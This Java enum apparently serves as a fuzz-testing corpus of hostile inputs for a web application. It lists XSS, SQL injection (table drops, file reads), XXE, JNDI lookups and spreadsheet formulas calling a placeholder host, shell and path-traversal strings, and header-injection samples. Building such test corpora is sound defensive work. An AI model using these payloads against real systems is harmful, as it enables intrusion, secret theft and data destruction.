package org.spoc.hostile;

import java.util.Arrays;
import java.util.List;

/**
 * Kinds of hostile texts. Whatever can run in a page sets {@code window.__spoc_ran}, so that somebody who looks at all
 * pages afterwards sees that it ran.
 */
enum Family {

    /** Elements that bring script. */
    MARKUP("<script>window.__spoc_ran=1</script>", "<img src=x onerror=\"window.__spoc_ran=1\">", "<svg/onload=window.__spoc_ran=1>",
            "</title><script>window.__spoc_ran=1</script>", "</textarea><img src=x onerror=window.__spoc_ran=1>", "<!--<img src=\"--><img src=x onerror=window.__spoc_ran=1//\">",
            "]]></update><script>window.__spoc_ran=1</script>", "<iframe srcdoc=\"<script>parent.__spoc_ran=1</script>\">", "<details open ontoggle=window.__spoc_ran=1>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__spoc_ran=1>", "<style>@import'//spoc.invalid';</style>", "<base href=//spoc.invalid/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:window.__spoc_ran=1\">", "&lt;script&gt;window.__spoc_ran=1&lt;/script&gt;", "&#x3C;script&#x3E;window.__spoc_ran=1&#x3C;/script&#x3E;",
            "<b>bold</b>", "&amp;amp;", "&nbsp;", "<", ">", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
    /** What ends an attribute or a script. */
    ATTRIBUTE("\" onmouseover=\"window.__spoc_ran=1", "' onfocus='window.__spoc_ran=1' autofocus='", "\"><script>window.__spoc_ran=1</script>", "'-(window.__spoc_ran=1)-'",
            "\";window.__spoc_ran=1;//", "';window.__spoc_ran=1;//", "\\';window.__spoc_ran=1;//", "</script><script>window.__spoc_ran=1</script>", "`${window.__spoc_ran=1}`",
            "{{constructor.constructor('window.__spoc_ran=1')()}}", "\\u003cscript\\u003ewindow.__spoc_ran=1\\u003c/script\\u003e", "x\" style=\"position:fixed;inset:0", "\\\"", "'", "\"", "`", "\\"),
    /** Links that run or lead elsewhere. */
    ADDRESS("javascript:window.__spoc_ran=1", "JaVaScRiPt:window.__spoc_ran=1", "java\tscript:window.__spoc_ran=1", "data:text/html,<script>window.__spoc_ran=1</script>", "vbscript:x",
            "//spoc.invalid/x", "https://spoc.invalid/?q=1#x", "http://169.254.169.254/latest/meta-data/", "http://[::ffff:127.0.0.1]/", "file:///etc/passwd", "mailto:a@b.example?bcc=c@d.example",
            "a@b.example?body=x", "\"<script>window.__spoc_ran=1</script>\"@b.example", "a@b.example\r\nBcc: c@d.example", "javascript:window.__spoc_ran=1//@b.example", "+49 30 1;window.__spoc_ran=1"),
    /** SQL. */
    SQL("' or '1'='1", "'; drop table party; --", "1; select pg_sleep(20)", "' union select digest from api_token --", "\\'; delete from app_user; --", "%", "_", "%_%", "\\%", "a\\", "$$; drop table party; $$",
            "' || pg_read_file('/etc/passwd') || '", "1) or 1=1 --", "/*", "*/", "--", "null", "NULL", "true", "' and 1=cast((select version()) as int) --", "?", ":1", "?::text", "{fn now()}", "\"; --", "id desc; select 1"),
    /** Expressions of pages, templates, logging. */
    EXPRESSION("#{7*7}", "${7*7}", "#{request.contextPath}", "#{facesContext.externalContext.redirect('//spoc.invalid')}", "${''.class.forName('java.lang.Runtime')}", "#{'#'}{7*7}", "%{7*7}", "{{7*7}}", "<%= 7*7 %>",
            "${jndi:ldap://spoc.invalid/x}", "${env:SPOC_ADMIN_PASSWORD}", "${sys:user.home}", "@{7*7}", "*{7*7}", "#{", "${", "\\#{x}", "{0}", "{0,number,#.##}", "{", "}", "{x", "'{0}'", "''"),
    /** LDAP. */
    DIRECTORY("*)(uid=*))(|(uid=*", "*", "(cn=*)", "admin)(&)", "\\2a", "cn=a,dc=b", "\\00"),
    /** Lines of headers, logs and mails. */
    HEADER("a\r\nSet-Cookie: spoc-sign-in=x", "a\nX-Evil: 1", "a\rb", "a%0d%0aSet-Cookie:x=1", "\u560D\u560ASet-Cookie:x=1", "a\r\n\r\n<script>window.__spoc_ran=1</script>", "a\u2028b", "a\u2029b", "a\u0085b", "2026-11-24 INFO signed in as admin",
            "two\nlines", "tab\there"),
    /** Formats of C, Java, shell. */
    FORMAT("%s%s%s%n", "%n%n%n", "%x", "%1$s", "%99999999d", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "%PATH%", "\\x41", "\\0", "!!", "~", "-rf", "--help"),
    /** What cannot be kept or printed. */
    CONTROL("a\u0000b", "\u0000", "a\u0001b", "a\u0007b", "a\u0008b", "a\u001Bc", "\u001B[2J\u001B[31mred", "a\u007Fb", "a\u0080b", "a\u009Fb", "\u000B", "\f", "a\u001Fb", "\u0000<script>window.__spoc_ran=1</script>"),
    /** What looks like nothing. */
    UNSEEN("\u200B", "a\u200Bb", "\u200C\u200D", "\uFEFF", "\uFEFFa", "\u00AD", "a\u00ADb", "\u2060", "\u3164", "\u115F", "\u2800", " ", "   ", "\t", "\u00A0", "\u2003", "\u3000", "\uDB40\uDC41", "", "\u034F", "\u180E", "\uFFFC", "\uFFFE", "\uFFFF",
            " a", "a ", "\u00A0a\u00A0", "\u3000a\u3000", "a  b", "\n", "\uE000"),
    /** What turns the direction of writing. */
    DIRECTION("\u202Egnp.exe", "a\u202Db", "\u202Aa", "a\u2066b\u2069", "a\u2067b", "\u200Fa", "\u200Ea", "\u0645\u0631\u062D\u0628\u0627", "\u05E9\u05DC\u05D5\u05DD 123", "\u061Ca"),
    /** Halves of characters. */
    HALVES("\uD800", "\uDC00", "a\uD83Db", "\uDC00\uD800", "\uD83D\uDE00\uD83D", "<\uD800script>window.__spoc_ran=1</script>"),
    /** One text in several forms. */
    FORMS("\u00E9", "e\u0301", "\u212B", "A\u030A", "\u1E9B\u0323", "\uFB01", "\u2460", "\uFF1Cscript\uFF1Ewindow.__spoc_ran=1\uFF1C/script\uFF1E", "\u0130", "\u0131", "\u00DF", "\u1E9E", "\u01C5", "\u03C2", "\u0390", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
            "\u0F40\u0F90\u0FB5", "\uAC00", "\u1100\u1161", "\u017F", "\u212A"),
    /** Beyond sixteen bits. */
    ASTRAL("\uD83D\uDE00", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uD83C\uDDEB\uD83C\uDDF7", "\uD835\uDD38\uD835\uDD39", "\uD842\uDFB7\u91CE\u5BB6", "\uDBFF\uDFFF", "\uDBFF\uDFFE", "\uDBC0\uDC00", "a\uFE0F", "1\uFE0F\u20E3", "\uD83D\uDC4D\uD83C\uDFFD"),
    /** Long ones. */
    LONG("x".repeat(51), "x".repeat(101), "x".repeat(201), "x".repeat(256), "x".repeat(501), "x".repeat(1001), "x".repeat(2001), "x".repeat(4001), "x".repeat(10_001), "x".repeat(20_001), "x".repeat(65_536),
            "\uD83D\uDE00".repeat(100), "\u0301".repeat(199), "a\u0301".repeat(100), "\uFDFA".repeat(200), "\u0390".repeat(200), "\u00E9".repeat(200), "<".repeat(200), "\"".repeat(200), "&".repeat(100), "(".repeat(200), "a ".repeat(99) + "a", "-".repeat(200), "(a+)+".repeat(30),
            "a@" + "b.".repeat(120) + "c", "a".repeat(100) + "@b.example", "0".repeat(400), "9".repeat(400), "1".repeat(50), "a,".repeat(150)),
    /** Numbers. */
    NUMBERS("0", "-0", "-1", "1e400", "1e-400", "NaN", "Infinity", "-Infinity", "0x10", "010", "1_000", "1,000.00", "1.000,00", "99999999999999999999", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "2147483647", "2147483648",
            "-2147483649", "0.1", "0.005", "999999999999.99", "1000000000000", "1e5", "1E+2", "+1", ".5", "5.", "\u0661\u0662\u0663", "\uFF11\uFF12", "\u00BD", "1 000", "1\u00A0000", "1\u202F000", "1e2147483647", "1e-2147483648", "- 1", "--1", "1/0", "0b1", "1L", "1d", "1f"),
    /** Days and times. */
    DATES("0000-00-00", "0000-01-01", "+99999-01-01", "-0001-01-01", "2026-02-30", "2025-02-29", "2024-02-29", "2026-13-01", "2026-1-1", "1899-12-31", "1900-01-01", "9999-12-31", "10000-01-01", "2026-W01-1", "2026-001", "20260101", "01/02/2026", "31.12.2026",
            "2026-01-01T00:00:00", "2026-01-01T00:00:00Z", "2026-01-01T24:00:00Z", "2026-01-01T23:59:60Z", "2026-01-01T00:00:00+99:99", "2026-01-01T00:00:00+18:00", "2026-01-01T00:00:00-18:01", "2026-01-01T00:00:00.9999999999Z", "2026-01-01t00:00:00z",
            "2026-01-01T00:00:00[Europe/Paris]", "2026-03-29T02:30:00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "1970-01-01T00:00:00Z", "now", "today", "infinity", "-infinity", "epoch", "2026-01-01 BC", "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661"),
    /** Ways out of a folder. */
    PATHS("../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc", "..%252f..%252fetc", "/etc/passwd", "....//etc", "\u002e\u002e/WEB-INF/web.xml", ";jsessionid=x", "a;b=c", "a/b", "a?b", "a#b", "CON", "NUL", "a.csv\u0000.xlsx", ".htaccess", "%00", "%", "%zz", "%u0041", "%c0%ae", "~root"),
    /** What a spreadsheet calculates. */
    FORMULAS("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://spoc.invalid\",\"x\")", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://spoc.invalid\")", ";=1", "\uFF1D1+1", "a,\"b", "a;b", "\"a\"\"b\"");

    private final List<String> samples;

    Family(String... samples) {
        this.samples = List.copyOf(Arrays.asList(samples));
    }

    List<String> samples() {
        return samples;
    }
}
